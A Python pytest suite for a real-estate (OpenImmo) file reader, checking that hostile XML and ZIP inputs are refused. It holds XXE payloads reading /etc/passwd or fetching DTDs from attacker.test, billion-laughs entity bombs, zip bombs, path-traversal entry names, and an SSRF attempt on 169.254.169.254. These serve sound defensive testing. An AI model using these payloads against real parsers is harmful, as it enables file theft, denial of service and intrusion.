"""Files that are broken, foreign, or built to do harm: each is refused with a reason, and nothing happens."""

import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from tests.unit.estates import transfers as t

from siegelpost.estates.openimmo import OpenImmoError, limits
from siegelpost.estates.openimmo.messages import TEXTS, AttachmentError, Key, Message
from siegelpost.estates.openimmo.reader import read

GOOD = t.document(t.provider(t.estate()))


def refusal(path: Path) -> OpenImmoError:
    with pytest.raises(OpenImmoError) as caught, read(path):
        pass
    error = caught.value
    # Every refusal says what happened, that nothing was changed, and what to do, in both languages.
    assert "Es wurde nichts geändert." in error.text("de")
    assert "Nothing was changed." in error.text("en")
    assert TEXTS[error.message.key].advice.de
    assert TEXTS[error.message.key].advice.en
    return error


def with_head(head: str, body: str = "") -> bytes:
    return f'<?xml version="1.0"?>{head}<openimmo>{body}</openimmo>'.encode()


LAUGHS = "".join(f"<!ENTITY l{n} '" + f"&l{n - 1};" * 10 + "'>" for n in range(1, 12))
MANY_ATTRIBUTES = " ".join(f'b{n}="1"' for n in range(100))
XML_CASES: dict[str, tuple[bytes, Key]] = {
    "external entity": (
        with_head('<!DOCTYPE openimmo [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        Key.DOCTYPE,
    ),
    "billion laughs": (
        with_head(f'<!DOCTYPE openimmo [<!ENTITY l0 "ha">{LAUGHS}]>', "&l11;"),
        Key.DOCTYPE,
    ),
    "quadratic blow-up": (
        with_head('<!DOCTYPE openimmo [<!ENTITY a "' + "a" * 50_000 + '">]>', "&a;" * 5_000),
        Key.DOCTYPE,
    ),
    "parameter entity from the network": (
        with_head('<!DOCTYPE openimmo [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]>'),
        Key.DOCTYPE,
    ),
    "external DTD": (with_head('<!DOCTYPE openimmo SYSTEM "http://attacker.test/x.dtd">'), Key.DOCTYPE),
    "XInclude": (
        with_head("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
        Key.XINCLUDE,
    ),
    "too deep": (with_head("", "<a>" * 50_000 + "</a>" * 50_000), Key.TOO_DEEP),
    "many elements": (with_head("", "<a/>" * 30_000), Key.TOO_MANY_ELEMENTS),
    "many attributes": (
        with_head("", f"<a {MANY_ATTRIBUTES}/>"),
        Key.TOO_MANY_ELEMENTS,
    ),
    "foreign": (b"<?xml version='1.0'?><rss><channel/></rss>", Key.FOREIGN_XML),
    "web page": (b"<html><body>404</body></html>", Key.FOREIGN_XML),
    "web page with DOCTYPE": (b"<!DOCTYPE html><html></html>", Key.DOCTYPE),
    "inquiry": (b"<openimmo_feedback/>", Key.FEEDBACK),
    "cut off": (GOOD[: len(GOOD) // 2], Key.CUT_OFF),
    "closed otherwise": (with_head("", "<a></b>"), Key.TAG_MISMATCH),
    "attribute twice": (with_head("", '<a x="1" x="2"/>'), Key.ATTRIBUTE_TWICE),
    "two transfers": (GOOD + b"<openimmo/>", Key.AFTER_THE_END),
    "two files in one": (GOOD + GOOD, Key.AFTER_THE_END),
    "no XML inside": (with_head("", "<a b></a>"), Key.BROKEN_XML),
    "nothing but controls": (with_head("", "\0" * 200_000), Key.BAD_CHARACTERS),
    "codec that is quadratic": (GOOD.replace(b"UTF-8", b"punycode"), Key.UNKNOWN_ENCODING),
    "unknown encoding": (GOOD.replace(b"UTF-8", b"KLINGON"), Key.UNKNOWN_ENCODING),
    "codec that is none": (GOOD.replace(b"UTF-8", b"rot13"), Key.UNKNOWN_ENCODING),
    "nothing in it": (b"<openimmo/>", Key.NO_PROVIDER),
    "complete deletion": (
        t.document(t.provider(t.estate()), scope="VOLL", mode="DELETE"),
        Key.FULL_DELETE,
    ),
    "empty": (b"", Key.EMPTY),
    "picture": (t.picture(), Key.NO_XML_NO_ZIP),
    "RAR": (b"Rar!\x1a\x07\x01\x00" + bytes(64), Key.NO_XML_NO_ZIP),
}


@pytest.mark.parametrize("case", XML_CASES)
def test_bad_xml(tmp_path: Path, case: str) -> None:
    data, key = XML_CASES[case]
    path = tmp_path / "file.xml"
    path.write_bytes(data)
    assert refusal(path).message.key is key


@pytest.mark.parametrize("case", sorted(set(XML_CASES) - {"picture", "RAR", "empty"}))
def test_bad_xml_in_an_archive(tmp_path: Path, case: str) -> None:
    data, key = XML_CASES[case]
    assert refusal(t.write_zip(tmp_path / "file.zip", data)).message.key is key


def test_missing_folder_and_pipe(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.xml")
    for path in (tmp_path / "none.xml", tmp_path, tmp_path / "pipe.xml"):
        assert refusal(path).message.key is Key.NOT_FOUND


def test_large_xml(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "XML_BYTES", 200)
    path = tmp_path / "file.xml"
    path.write_bytes(GOOD)
    assert refusal(path).message.key is Key.TOO_LARGE
    assert refusal(t.write_zip(tmp_path / "file.zip", GOOD)).message.key is Key.TOO_LARGE


def test_many_properties(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "PROPERTIES", 2)
    path = t.write_xml(tmp_path, *(t.estate(str(number)) for number in range(3)))
    assert refusal(path).message.key is Key.TOO_MANY_PROPERTIES


def test_one_monstrous_property_does_not_spoil_the_file(tmp_path: Path) -> None:
    path = t.write_xml(tmp_path, t.estate("A", inner="<x/>" * 21_000), t.estate("B", title="Gut"))
    with read(path) as transfer:
        (delivery,) = transfer.deliveries
    assert [one.title for one in delivery.properties] == ["Gut"]
    assert [one.reason.key for one in delivery.rejected] == [Key.PROPERTY_TOO_LARGE]


def test_a_property_inside_a_property_is_part_of_it(tmp_path: Path) -> None:
    with read(t.write_xml(tmp_path, t.estate("A", inner=t.estate("B")))) as transfer:
        assert [one.label for one in transfer.deliveries[0].properties] == ["A"]


def add(archive: zipfile.ZipFile, *names: str, data: bytes = b"x") -> None:
    for name in names:
        archive.writestr(name, data)


def zipped(tmp_path: Path, write: Callable[[zipfile.ZipFile], object]) -> Path:
    path = tmp_path / "file.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("openimmo.xml", GOOD)
        write(archive)
    return path


@pytest.mark.parametrize(
    "name",
    ["../evil.jpg", "a/../../evil.jpg", "/etc/cron.d/evil", "C:\\evil.jpg", "..\\evil.jpg", "a\\..\\..\\b.jpg"],
)
def test_path_traversal_in_an_archive(tmp_path: Path, name: str) -> None:
    path = zipped(tmp_path, lambda archive: archive.writestr(name, b"x"))
    assert refusal(path).message.key is Key.ZIP_TRAVERSAL
    assert sorted(one.name for one in tmp_path.iterdir()) == ["file.zip"]


def test_bomb_by_ratio(tmp_path: Path) -> None:
    path = zipped(tmp_path, lambda archive: archive.writestr("a.jpg", bytes(32 * limits.MIB)))
    assert refusal(path).message.key is Key.ZIP_BOMB


def test_bomb_by_total(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "ZIP_BYTES", 3000)
    path = zipped(tmp_path, lambda archive: add(archive, *"abcd", data=bytes(900)))
    assert refusal(path).message.key is Key.ZIP_BOMB


def test_bomb_of_overlapping_entries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Many directory entries that all point to the same packed bytes."""
    monkeypatch.setattr(limits, "ZIP_BYTES", 10 * limits.MIB)
    path = tmp_path / "file.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("openimmo.xml", GOOD)
        archive.writestr("a.jpg", os.urandom(limits.MIB))
        first = archive.getinfo("a.jpg")
        for number in range(20):
            twin = zipfile.ZipInfo(f"{number}.jpg")
            for attribute in ("compress_type", "compress_size", "file_size", "CRC", "header_offset"):
                setattr(twin, attribute, getattr(first, attribute))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    assert refusal(path).message.key is Key.ZIP_BOMB


def test_too_many_entries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "ZIP_ENTRIES", 5)
    path = zipped(tmp_path, lambda archive: add(archive, *"abcdef"))
    assert refusal(path).message.key is Key.ZIP_TOO_MANY


def test_size_that_lies(tmp_path: Path) -> None:
    """The directory promises 10 bytes, the packed data are 8 MiB: no more than promised is ever unpacked."""
    path = zipped(tmp_path, lambda archive: archive.writestr("a.jpg", bytes(8 * limits.MIB)))
    data = bytearray(path.read_bytes())
    where = data.rindex(b"PK\x01\x02")
    data[where + 24 : where + 28] = struct.pack("<I", 10)
    path.write_bytes(data)
    with read(path) as transfer, pytest.raises(AttachmentError) as caught:
        transfer.files.read("a.jpg")
    assert caught.value.message.key is Key.ATTACHMENT_UNREADABLE


def test_archive_in_the_archive_is_left_alone(tmp_path: Path) -> None:
    inner = zlib.compress(bytes(1000))
    with read(zipped(tmp_path, lambda archive: archive.writestr("more.zip", inner))) as transfer:
        assert transfer.notices == (Message.of(Key.NESTED_ZIP, name="more.zip"),)
        assert transfer.count == 1


def test_archive_of_archives_only(tmp_path: Path) -> None:
    path = tmp_path / "file.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("more.zip", b"PK")
    assert refusal(path).message.key is Key.ZIP_NO_XML


def test_two_documents(tmp_path: Path) -> None:
    path = zipped(tmp_path, lambda archive: archive.writestr("second.XML", GOOD))
    assert refusal(path).message.key is Key.ZIP_SEVERAL_XML


def test_what_macos_adds_is_ignored(tmp_path: Path) -> None:
    with read(zipped(tmp_path, lambda archive: archive.writestr("__MACOSX/._openimmo.xml", b"x"))) as transfer:
        assert transfer.count == 1


def test_unusual_packing(tmp_path: Path) -> None:
    path = zipped(tmp_path, lambda archive: archive.writestr("a.jpg", b"x", zipfile.ZIP_LZMA))
    assert refusal(path).message.key is Key.ZIP_METHOD


def test_encrypted(tmp_path: Path) -> None:
    path = zipped(tmp_path, lambda archive: None)
    data = bytearray(path.read_bytes())
    data[data.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(data)
    assert refusal(path).message.key is Key.ENCRYPTED_ZIP


@pytest.mark.parametrize("at", range(0, 400, 7))
def test_damaged_archive(tmp_path: Path, at: int) -> None:
    path = t.write_zip(tmp_path / "file.zip", GOOD)
    data = bytearray(path.read_bytes())
    data[at % len(data)] ^= 0xFF
    path.write_bytes(data)
    with suppress(OpenImmoError), read(path) as transfer:
        assert transfer.count == 1


def test_entry_without_a_name(tmp_path: Path) -> None:
    path = t.write_zip(tmp_path / "file.zip", GOOD, {"a": b"x"})
    data = path.read_bytes()
    where = data.rindex(b"PK\x01\x02")
    # Its one letter counts as extra data instead.
    nameless = data[: where + 28] + b"\x00\x00\x01\x00" + data[where + 32 :]
    path.write_bytes(nameless)
    assert refusal(path).message.key is Key.BROKEN_ZIP


@pytest.mark.parametrize("cut", [5, 60, 200])
def test_archive_cut_off(tmp_path: Path, cut: int) -> None:
    path = t.write_zip(tmp_path / "file.zip", GOOD)
    path.write_bytes(path.read_bytes()[:-cut])
    assert refusal(path).message.key is Key.BROKEN_ZIP


@pytest.mark.parametrize(
    "name", ["../secret.jpg", "/etc/passwd", "..\\secret.jpg", "C:\\secret.jpg", "a/../../secret.jpg"]
)
def test_attachment_that_leads_out(tmp_path: Path, name: str) -> None:
    (tmp_path / "secret.jpg").write_bytes(t.picture())
    folder = tmp_path / "transfer"
    folder.mkdir()
    (xml := folder / "t.xml").write_bytes(GOOD)
    with read(xml) as transfer, pytest.raises(AttachmentError) as caught:
        transfer.files.read(name)
    assert caught.value.message.key is Key.ATTACHMENT_MISSING
    with read(t.write_zip(tmp_path / "t.zip", GOOD)) as transfer, pytest.raises(AttachmentError) as caught:
        transfer.files.read(name)
    assert caught.value.message.key is Key.ATTACHMENT_MISSING


def test_attachment_that_is_a_link_or_a_pipe(tmp_path: Path) -> None:
    (tmp_path / "t.xml").write_bytes(GOOD)
    (tmp_path / "link.jpg").symlink_to("/etc/passwd")
    os.mkfifo(tmp_path / "pipe.jpg")
    with read(tmp_path / "t.xml") as transfer:
        for name in ("link.jpg", "pipe.jpg"):
            with pytest.raises(AttachmentError) as caught:
                transfer.files.read(name)
            assert caught.value.message.key is Key.ATTACHMENT_MISSING


def test_remote_attachment_is_never_fetched(tmp_path: Path) -> None:
    """The tests' own guard fails this one if anything tries to reach the network."""
    inner = t.attachments(
        t.attachment("http://169.254.169.254/latest", location="REMOTE"),
        t.attachment("https://pictures.test/1.jpg", location="EXTERN"),
    )
    with read(t.write_xml(tmp_path, t.estate(inner=inner))) as transfer:
        (found,) = transfer.deliveries[0].properties
        for one in found.attachments:
            with pytest.raises(AttachmentError) as caught:
                one.read(transfer.files)
            assert caught.value.message.key is Key.REMOTE


def test_message_cannot_be_disguised(tmp_path: Path) -> None:
    path = tmp_path / "file.xml"
    path.write_bytes(f"<rss{'x' * 150}/>".encode())
    assert len(refusal(path).text("de")) < 400
    error = OpenImmoError(Key.FOREIGN_XML, tag="a\x1b[31m\u202egnp.exe\n{line}")
    assert "\x1b" not in error.text("de")
    assert "\u202e" not in error.text("de")
    assert "\n" not in error.text("de")
